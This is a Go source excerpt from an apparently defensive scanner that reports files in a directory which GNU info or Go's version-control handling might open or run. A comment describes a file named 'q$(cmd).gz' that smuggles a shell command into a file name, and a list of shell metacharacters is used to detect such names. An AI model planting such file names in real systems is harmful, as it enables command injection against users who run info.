var goVCSMarkers = []string{".hg", ".svn", ".bzr", ".fslckout", "_FOSSIL_"}

func (r *configReader) goVCS(dir string) {
	r.git(dir)
	for _, x := range ancestors(dir) {
		for _, m := range goVCSMarkers {
			p := path.Join(x, m)
			if _, err := os.Lstat(p); err == nil {
				r.add(p, 0, "", "go list runs this version-control system's program, whose configuration permopa does not read")
			}
		}
	}
}

// --- info ---

// infoSeparator starts every node of an Info file.
const infoSeparator = 0x1f

// infoDir reports what info (GNU texinfo) may open from the directory it
// runs in: its default INFOPATH ends with ".", so a "dir" file there adds
// menu entries naming any file, and a node name not in the system's menus
// is looked up as a file there (NAME, NAME.info, NAME-info, NAME.inf,
// with a compression suffix). info decompresses through sh -c with the
// file name in the command line (a file named q$(cmd).gz ran cmd), and an
// Info file's Indirect table names further files anywhere. Findings: a
// dir menu, a compressed file's name sh would read as more than a word, a
// link (info follows it anywhere), and a file (or a directory's index)
// whose first bytes hold an Info node separator or are compressed.
func (r *configReader) infoDir(dir string) {
	f, err := os.OpenFile(dir, os.O_RDONLY|syscall.O_NONBLOCK, 0)
	if err != nil {
		r.add(dir, 0, "", "cannot be read: "+err.Error())
		return
	}
	ents, err := f.ReadDir(maxInfoEntries + 1)
	f.Close()
	if err != nil && !errors.Is(err, io.EOF) {
		r.add(dir, 0, "", "cannot be read: "+err.Error())
		return
	}
	if len(ents) > maxInfoEntries {
		r.add(dir, 0, "", "holds more entries than permopa reads for info")
		return
	}
	for _, e := range ents {
		name := e.Name()
		p := path.Join(dir, name)
		switch {
		case name == "dir" || strings.HasPrefix(name, "dir."):
			r.add(p, 0, "", "info merges this menu (its search path includes the working directory); an entry names any file")
		case strings.ContainsAny(name, shellSpecial) && infoCompressed(name):
			r.add(p, 0, "", "info opens a compressed file through sh -c with its name in the command line")
		case e.Type()&os.ModeSymlink != 0:
			r.add(p, 0, "", "info follows this link when a node name matches it")
		case e.IsDir():
			// NAME/index is one of the names info tries.
			r.infoFile(path.Join(p, "index"))
		case e.Type().IsRegular():
			r.infoFile(p)
		default:
			r.add(p, 0, "", "is not a regular file, which info may open")
		}
	}
}

// infoFile reports a file info could open as an Info file: one holding a
// node separator, or compressed (info picks the decompressor by the name's
// suffix, so any compressed file may be an Info file). A git index, a
// binary file info finds no node in, is not one.
func (r *configReader) infoFile(p string) {
	b, err := readHead(p, infoHeadBytes)
	switch {
	case errors.Is(err, os.ErrNotExist) || errors.Is(err, syscall.ENOTDIR):
	case err != nil:
		r.add(p, 0, "", "cannot be read: "+err.Error())
	case bytes.HasPrefix(b, []byte("DIRC")) && path.Base(path.Dir(p)) == ".git":
	case bytes.Contains(b, []byte{infoSeparator, '\n'}) || bytes.Contains(b, []byte{infoSeparator, '\f'}):
		r.add(p, 0, "", "is an Info file info may open, whose Indirect table and menus name any file")
	case compressedMagic(b):
		r.add(p, 0, "", "is a compressed file info may open as an Info file")
	}
}

// compressedMagic says whether b starts like a file info decompresses:
// gzip, compress, bzip2, xz, lzma, lzip or zstd.
func compressedMagic(b []byte) bool {
	for _, m := range []string{"\x1f\x8b", "\x1f\x9d", "\x1f\xa0", "BZh", "\xfd7zXZ\x00", "\x5d\x00\x00", "LZIP", "\x28\xb5\x2f\xfd"} {
		if bytes.HasPrefix(b, []byte(m)) {
			return true
		}
	}
	return false
}

// infoCompressed says whether info picks a decompressor for name by its
// suffix (texinfo 6.8 tries these, observed under strace).
func infoCompressed(name string) bool {
	for _, x := range []string{".gz", ".bz2", ".xz", ".lz", ".lzma", ".z", ".Z", ".Y", ".zst"} {
		if strings.HasSuffix(name, x) {
			return true
		}
	}
	return false
}

// Bounds of infoDir: entries of the directory and bytes read of each file.
const (
	maxInfoEntries = 1024
	infoHeadBytes  = 4096
)

// shellSpecial are the characters that make sh read a name as more than
// one plain word.
const shellSpecial = "$`;|&<>()'\"*?[]{}~#! \t\n"

func readHead(p string, n int64) ([]byte, error) {
	f, err := os.OpenFile(p, os.O_RDONLY|syscall.O_NONBLOCK, 0)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return io.ReadAll(io.LimitReader(f, n))
}
